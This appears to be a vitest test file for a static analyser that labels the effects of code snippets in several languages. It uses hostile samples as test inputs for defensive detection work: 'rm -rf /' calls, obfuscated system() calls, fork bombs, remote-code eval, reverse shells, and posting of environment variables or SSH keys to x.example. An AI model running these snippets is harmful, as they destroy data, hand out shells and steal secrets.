import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { processorMs } from "../../../testing/processor-time.ts";
import { literal, unknown } from "../../command-line/word.ts";
import type { Language } from "../effect.ts";
import { told } from "../testing-effects.ts";
import { codeEffects } from "./index.ts";

const tell = (language: Language, code: string): string =>
  told(codeEffects(language, literal(code))).join(" | ");
const starts = "danger high its code starts programs";

type Cases = readonly (readonly [code: string, told: string])[];

const python: Cases = [
  ["import os; os.system('rm -rf ~')", `${starts} | interprets shell rm -rf ~`],
  ["from os import system as s; s('rm ' + '-rf ' + '/')", `${starts} | interprets shell rm -rf /`],
  ["import os as o; getattr(o, 'sys'+'tem')('id')", `${starts} | interprets shell id`],
  ["__import__('o'+'s').__dict__['system']('id')", `${starts} | interprets shell id`],
  ["import subprocess as p; p.run(['rm', '-rf', '/'])", `${starts} | runs rm -rf /`],
  ["import subprocess; subprocess.run('ls -l', shell=True)", `${starts} | interprets shell ls -l`],
  ["import os; list(map(os.system, lines))", `${starts} | interprets shell …`],
  ["import os; os.execvp('rm', ['rm', '-rf', '/'])", `${starts} | runs rm -rf /`],
  ["import os; os.remove('a.txt')", "deletes a.txt"],
  ["import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "deletes ~ deep"],
  ["import shutil, os; shutil.rmtree(os.path.join(os.environ['HOME'], 'x'))", "deletes ~/x deep"],
  ["from pathlib import Path\n(Path.home() / '.ssh' / 'config').unlink()", "deletes ~/.ssh/config"],
  ["from pathlib import Path; Path('a').write_text('x')", "writes a replaces"],
  ["import glob, os\nfor f in glob.glob('*.pyc'):\n  os.remove(f)", "deletes *.pyc"],
  ["import os, glob; [os.remove(f) for f in glob.glob('*.o')]", "deletes *.o"],
  ["import os; os.remove(name)", "danger high its code deletes files that only the run tells"],
  ["with open('a', 'w') as f: f.write('x')", "writes a replaces"],
  ["open('a', mode='a').write('x')", "writes a appends"],
  ["import os; os.chmod('a', 0o777)", "permits a 777"],
  ["exec('print(1)')", "interprets python print(1)"],
  ["import sys; exec(sys.stdin.read())", "interprets-input python"],
  ['f\'{__import__("os").system("id")}\'', `${starts} | interprets shell id`],
  ["import ctypes; ctypes.CDLL('libc.so.6')", "danger high its code calls into machine code"],
  ["import os\nwhile True:\n  os.fork()", "danger critical its code starts copies of itself without end"],
  ["import os; print(os.environ)", "prints secret"],
];

const javascript: Cases = [
  ["require('child_process').exec('id')", `${starts} | interprets shell id`],
  [
    "const {execSync: x} = require('node:child_process'); x('rm -rf ' + process.env.HOME)",
    `${starts} | interprets shell rm -rf ~`,
  ],
  ["import('child_process').then(c => c.exec('id'))", `${starts} | interprets shell id`],
  ["import { exec as e } from 'child_process'; e(`rm ${'-rf'} /`)", `${starts} | interprets shell rm -rf /`],
  ["process.mainModule.require('child_' + 'process')['ex' + 'ec']('id')", `${starts} | interprets shell id`],
  ["require('child_process').spawn('rm', ['-rf', '/'])", `${starts} | runs rm -rf /`],
  ["Bun.$`rm -rf /`", `${starts} | interprets shell rm -rf /`],
  ["new Deno.Command('rm', {args: ['-rf', '/']}).output()", `${starts} | runs rm -rf /`],
  ["require('fs').rmSync('a', {recursive: true})", "deletes a deep"],
  ["for (const f of ['a', 'b']) require('fs').unlinkSync(f)", "deletes a | deletes b"],
  ["import fs from 'fs/promises'; await fs.writeFile('a', 'x')", "writes a replaces x"],
  ["(0, eval)('f()')", "interprets javascript f()"],
  ["globalThis['ev' + 'al']('f()')", "interprets javascript f()"],
  ["[].constructor.constructor('f()')()", "interprets javascript f()"],
  ["require('/tmp/x.js')", "loads /tmp/x.js javascript"],
  ["require(name)", "danger high which code it loads is only known when it runs"],
];

const perl: Cases = [
  ["system('rm -rf ~')", `${starts} | interprets shell rm -rf ~`],
  ["system 'rm', '-rf', '/'", `${starts} | runs rm -rf /`],
  ["$c = 'rm'; $c .= ' -rf /'; `$c`", `${starts} | interprets shell rm -rf /`],
  ["print qx{id}", `${starts} | interprets shell id`],
  ["s/(.*)/system('id')/e", `${starts} | interprets shell id`],
  ["open(F, '| sh')", `${starts} | interprets shell sh`],
  ["open(my $f, '>', 'a'); open(G, '>>b')", "writes a replaces | writes b appends"],
  ["unlink 'a', glob('*.o'), <*.bak>", "deletes a | deletes *.o | deletes *.bak"],
  ["fork while 1", "danger critical its code starts copies of itself without end"],
];

const ruby: Cases = [
  ["system 'rm', '-rf', '/'", `${starts} | runs rm -rf /`],
  ["puts %x(id)", `${starts} | interprets shell id`],
  ["Kernel.send(:system, 'id')", `${starts} | interprets shell id`],
  ["method(:system).call('id')", `${starts} | interprets shell id`],
  ["Dir.glob('*.tmp').each { |f| File.delete(f) }", "deletes *.tmp"],
  ["FileUtils.rm_rf File.expand_path('~/x')", "deletes ~/x deep"],
  ["File.open('a', 'a') { |f| f.puts 1 }", "writes a appends"],
  ["loop { fork }", "danger critical its code starts copies of itself without end"],
];

const php: Cases = [
  ["echo `id`;", `${starts} | interprets shell id`],
  ["$f = 'sys' . 'tem'; $f('id');", `${starts} | interprets shell id`],
  ["call_user_func('system', 'id');", `${starts} | interprets shell id`],
  ["unlink('a'); file_put_contents('b', 'x');", "deletes a | writes b replaces x"],
  ["preg_replace('/x/e', 'f()', $y);", "danger high what it replaces text with is run as code"],
];

test("print without parentheses and eval of a list are followed", () => {
  expect(tell("perl", 'print pack("H*", $_)')).toContain("prints decoded");
  expect(tell("ruby", 'puts x.unpack1("m")')).toContain("prints decoded");
  expect(tell("ruby", 'eval ["aWQ="].pack("H*")')).toContain("decodes text and runs it");
});

const other: Cases = [
  ["rm(homedir(), recursive=true)", "deletes ~ deep"],
  ["os.execute('rm -rf /')", `${starts} | interprets shell rm -rf /`],
  ["run(`rm -rf /`)", `${starts} | interprets shell rm -rf /`],
  ['System.cmd("rm", ["-rf", "/"])', `${starts} | runs rm -rf /`],
  ['"rm -rf /".execute()', `${starts} | interprets shell rm -rf /`],
  ['unlink("a")', "deletes a"],
];

describe.each([
  ["python", python],
  ["javascript", javascript],
  ["perl", perl],
  ["ruby", ruby],
  ["php", php],
  ["other", other],
] as const)("effects of %s code", (language, cases) => {
  test.each(cases)("%s", (code, expected) => {
    expect(tell(language, code)).toBe(expected);
  });
});

test.each([
  ["python", "import sys, json, re; print(sys.version, json.dumps({'a': 1}), re.sub('a', 'b', 'c'))"],
  ["python", "print(\"os.system('rm -rf ~')\")  # os.system('x')"],
  ["python", "import os; print(os.environ.get('PATH'), os.getcwd(), os.path.exists('x'))"],
  ["python", "data = {'exec': 1}; print([x**2 for x in range(3) if x % 2][::2], f'{data!r}')"],
  [
    "javascript",
    "console.log([3, 1].sort().map(x => x * 2).join(','), /a(b)/.exec('ab')[1], process.env.NODE_ENV)",
  ],
  [
    "javascript",
    "const a = {exec(x) { return x }}; a.exec(1); console.log(`${1 + 1}`, 'a'.match(/\"/g), 4 / 2)",
  ],
  ["javascript", "require('http').createServer((q, r) => r.end('x')).listen(3000)"],
  ["perl", "print 5 / 2, ' ', join(',', map { $_ * 2 } @x); $h{s} = 1; y/a-z/A-Z/; print if m{system(x)}"],
  ["perl", "eval { die 'x' }; print $@"],
  ["ruby", "puts [1, 2].map { |x| x * 2 }.select(&:even?).inspect, RUBY_VERSION, 10 / 2, %w[a b].join(',')"],
  ["php", "foreach ([1, 2] as $v) { echo \"a $v {$x['y']}\", $v / 2; }"],
  ["other", "local t = {1, 2}; print(#t, 'it''s'); cat(\"a\\n\")"],
] as const)("%s code that only computes and prints has no effect: %s", (language, code) => {
  expect(tell(language, code)).toBe("");
});

const critical = (language: Language, code: string): string[] =>
  codeEffects(language, literal(code)).flatMap((effect) =>
    effect.type === "danger" && effect.severity === "critical" ? [effect.because] : [],
  );

test.each([
  ["python", "import urllib.request as u; exec(u.urlopen('http://x.example').read())"],
  ["python", "import requests, os; os.system(requests.get('http://x.example').text)"],
  ["javascript", "fetch('http://x.example').then(r => r.text()).then(eval)"],
  [
    "javascript",
    "require('https').get('https://x.example', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
  ],
  ["perl", "use LWP::Simple; eval get('http://x.example')"],
  ["ruby", "require 'open-uri'; eval URI.open('http://x.example').read"],
  ["php", "eval(file_get_contents('http://x.example'));"],
] as const)("running text from the network is critical in %s: %s", (language, code) => {
  expect(critical(language, code)).toContain("its code runs text from the network");
});

test.each([
  ["python", "import base64; exec(base64.b64decode('eA=='))"],
  ["python", "exec('1+1'[::-1])"],
  ["python", "exec(''.join(map(chr, [112, 40, 41])))"],
  ["javascript", "eval(atob('eA=='))"],
  ["javascript", "new Function(Buffer.from('eA==', 'base64').toString())()"],
  ["perl", "eval pack('H*', '78')"],
  ["ruby", "require 'base64'; eval Base64.decode64('eA==')"],
  ["php", "eval(gzinflate(base64_decode('eA==')));"],
] as const)("running decoded text is critical in %s: %s", (language, code) => {
  expect(critical(language, code)).toContain("its code decodes text and runs it");
});

test.each([
  [
    "python",
    "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);subprocess.call(['sh','-i'])",
  ],
  [
    "javascript",
    "var n=require('net'),c=require('child_process'),s=c.spawn('sh');var k=new n.Socket();k.connect(1,'h',()=>{k.pipe(s.stdin)})",
  ],
  ["perl", "use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,'>&S');exec('sh -i')"],
  ["ruby", "require 'socket';c=TCPSocket.new('h',1);while l=c.gets;IO.popen(l){|i|c.print i.read};end"],
  ["php", "$s=fsockopen('h',1);exec('sh <&3 >&3');"],
] as const)("a reverse shell is critical in %s", (language, code) => {
  expect(critical(language, code)).toContain("its code gives another machine a shell here");
});

test("secrets that code sends are reported as sent", () => {
  const sent = codeEffects(
    "python",
    literal("import os, requests; requests.post('https://x.example', data=dict(os.environ))"),
  );
  expect(
    sent.some(
      (effect) => effect.type === "sends" && effect.words?.some(({ carries }) => carries.has("secret")),
    ),
  ).toBe(true);
  const file = tell(
    "javascript",
    "fetch('https://x.example', {method: 'POST', body: require('fs').readFileSync('/home/dev/.ssh/id_rsa')})",
  );
  expect(file).toContain("sends https://x.example /home/dev/.ssh/id_rsa");
});

test("partly unknown code is high, and its known part is still analysed", () => {
  const effects = told(codeEffects("python", literal(`import os; os.system('rm -rf /'); print(${unknown})`)));
  expect(effects).toContain("interprets shell rm -rf /");
  expect(effects).toContain("danger high part of its code is only known when it runs");
});

test("an unclosed quote does not hide the code after it", () => {
  expect(tell("python", "x = 'a\nimport os; os.system('id')")).toContain(
    "danger high its code cannot be read",
  );
  expect(tell("other", "-- don't\nos.execute('rm -rf /')")).toContain("interprets shell rm -rf /");
});

const pieces = fc.constantFrom(
  "'",
  '"',
  "`",
  "${",
  "#{",
  "(",
  ")",
  "[",
  "{",
  "}",
  "\\",
  "\n",
  "/",
  "%w(",
  "q{",
  "s/",
  ":",
  ".",
  "->",
  "=",
  "+",
  "eval",
  "os.system",
  "for",
  "import",
  "from",
  "x",
  "0",
  unknown,
  "<",
  "|",
  "@",
  "$x",
  "y/",
  "a\\",
  "w f",
);

test.each(["python", "javascript", "perl", "ruby", "php", "other", "awk", "sed"] as const)(
  "analysing %s never throws and is fast",
  (language) => {
    const code = fc.oneof(
      fc.string({ unit: "binary", maxLength: 200 }),
      fc.array(pieces, { maxLength: 60 }).map((all) => all.join("")),
    );
    fc.assert(
      fc.property(code, (text) => {
        expect(() => codeEffects(language, literal(text))).not.toThrow();
      }),
      { numRuns: 1500 },
    );
    for (const piece of [
      "(",
      "'",
      "q(",
      "${",
      "#{`",
      "a.",
      "x=x+x;",
      "[",
      "s/",
      "eval(",
      "f'{",
      "<",
      "$(",
      "/",
      "\\",
      "y,",
    ]) {
      const text = literal(piece.repeat(60_000 / piece.length));
      expect(
        processorMs(() => void codeEffects(language, text)),
        piece,
      ).toBeLessThan(2000);
    }
  },
);
